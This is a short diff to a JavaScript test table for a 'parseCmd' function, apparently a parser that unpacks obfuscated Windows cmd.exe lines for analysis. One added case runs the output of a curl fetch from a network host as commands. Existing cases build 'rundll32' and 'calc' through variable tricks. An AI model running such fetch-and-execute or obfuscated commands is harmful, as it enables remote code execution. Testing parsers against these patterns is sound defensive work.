@@ -25,6 +25,8 @@ describe("parseCmd", () => {
     ["for /l %x in (1,1,3) do (ping %x)", ["ping 1", "ping 2", "ping 3"]],
     ['for /f "tokens=2 delims=:" %a in ("x:calc:y") do %a', ["calc"]],
     ["for /f %a in ('dir /b') do start %a", ["dir /b", "start %a"]],
+    ["for /f %i in ('curl http://h/x') do @%i", ["curl http://h/x", "cmd"]],
+    ["for /f \"tokens=*\" %%i in ('x.exe') do cmd /c %%i", ["x.exe", "cmd"]],
     ["set x=calc&call %x% /s", ["set x=calc", "call calc /s"]],
     ['set "a=run"&& set b=dll&& call %a%%b%32 x', ['set "a=run"', "set b=dll", "call rundll32 x"]],
     ["set x=calc&!x!", ["set x=calc", "calc"]],
